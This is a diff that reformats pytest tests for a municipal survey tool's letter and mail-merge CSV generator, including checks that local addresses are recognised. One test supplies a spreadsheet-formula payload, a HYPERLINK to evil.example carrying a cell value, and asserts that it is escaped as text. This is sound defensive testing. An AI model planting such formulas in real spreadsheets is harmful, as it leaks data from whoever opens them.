@@ -9,10 +9,16 @@ import pytest
 from collector import letters
 from tests.collector import pdftext
 
-INFO = letters.LetterInfo(sender="Eksempel kommune", title={"nb": "Brukerundersøkelse – hjemmetjenesten", "en": "User survey"},
-                          address="https://helhet.eksempel.no/svar", closes_at=datetime(2026, 3, 31, 22, 0))
-ISSUED = [letters.IssuedCode("K7MQ2XH9TD", "4699-helse-hjemme", "Hjemmetjenesten"),
-          letters.IssuedCode("ABCDEFGHJK", "4699-helse-hjemme", "Hjemmetjenesten")]
+INFO = letters.LetterInfo(
+    sender="Eksempel kommune",
+    title={"nb": "Brukerundersøkelse – hjemmetjenesten", "en": "User survey"},
+    address="https://helhet.eksempel.no/svar",
+    closes_at=datetime(2026, 3, 31, 22, 0),
+)
+ISSUED = [
+    letters.IssuedCode("K7MQ2XH9TD", "4699-helse-hjemme", "Hjemmetjenesten"),
+    letters.IssuedCode("ABCDEFGHJK", "4699-helse-hjemme", "Hjemmetjenesten"),
+]
 
 
 def test_the_letters_have_one_page_per_code_with_the_address_and_the_code(app):
@@ -35,7 +41,11 @@ def test_text_outside_latin_1_does_not_break_the_letters():
 
 
 def test_the_mail_merge_file_has_one_row_per_code(app):
-    rows = list(csv.DictReader(io.StringIO(letters.csv_bytes(ISSUED, INFO).decode("utf-8-sig")), delimiter=";"))
+    rows = list(
+        csv.DictReader(
+            io.StringIO(letters.csv_bytes(ISSUED, INFO).decode("utf-8-sig")), delimiter=";"
+        )
+    )
     assert [r["code"] for r in rows] == ["K7MQ2-XH9TD", "ABCDE-FGHJK"]
     assert rows[0]["unit_name"] == "Hjemmetjenesten" and rows[0]["closes"] == "2026-04-01 00:00"
 
@@ -43,18 +53,40 @@ def test_the_mail_merge_file_has_one_row_per_code(app):
 def test_a_unit_named_like_a_formula_is_text_in_the_mail_merge_file(app):
     name = '=HYPERLINK("https://evil.example/?"&A2;"Klikk her")'
     issued = [letters.IssuedCode("K7MQ2XH9TD", "4699-helse-hjemme", name)]
-    rows = list(csv.DictReader(io.StringIO(letters.csv_bytes(issued, INFO).decode("utf-8-sig")), delimiter=";"))
+    rows = list(
+        csv.DictReader(
+            io.StringIO(letters.csv_bytes(issued, INFO).decode("utf-8-sig")), delimiter=";"
+        )
+    )
     assert rows[0]["unit_name"] == "'" + name
 
 
-@pytest.mark.parametrize("address", ["http://127.0.0.1:5000/svar", "http://127.8.0.1/svar", "http://[::1]:5000/svar",
-                                     "http://localhost:5000/svar", "http://LocalHost./svar", "http://helhet.localhost/svar",
-                                     "http://0.0.0.0:8000/svar", "http://[::ffff:127.0.0.1]/svar", "127.0.0.1:5000/svar"])
+@pytest.mark.parametrize(
+    "address",
+    [
+        "http://127.0.0.1:5000/svar",
+        "http://127.8.0.1/svar",
+        "http://[::1]:5000/svar",
+        "http://localhost:5000/svar",
+        "http://LocalHost./svar",
+        "http://helhet.localhost/svar",
+        "http://0.0.0.0:8000/svar",
+        "http://[::ffff:127.0.0.1]/svar",
+        "127.0.0.1:5000/svar",
+    ],
+)
 def test_an_address_on_this_computer_is_recognised(address):
     assert letters.only_this_computer(address)
 
 
-@pytest.mark.parametrize("address", ["https://svar.kommune.no/svar", "http://10.0.0.5/svar", "https://localhost.kommune.no/svar",
-                                     "http://[2001:db8::1]/svar"])
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://svar.kommune.no/svar",
+        "http://10.0.0.5/svar",
+        "https://localhost.kommune.no/svar",
+        "http://[2001:db8::1]/svar",
+    ],
+)
 def test_a_public_or_network_address_is_not_this_computer(address):
     assert not letters.only_this_computer(address)
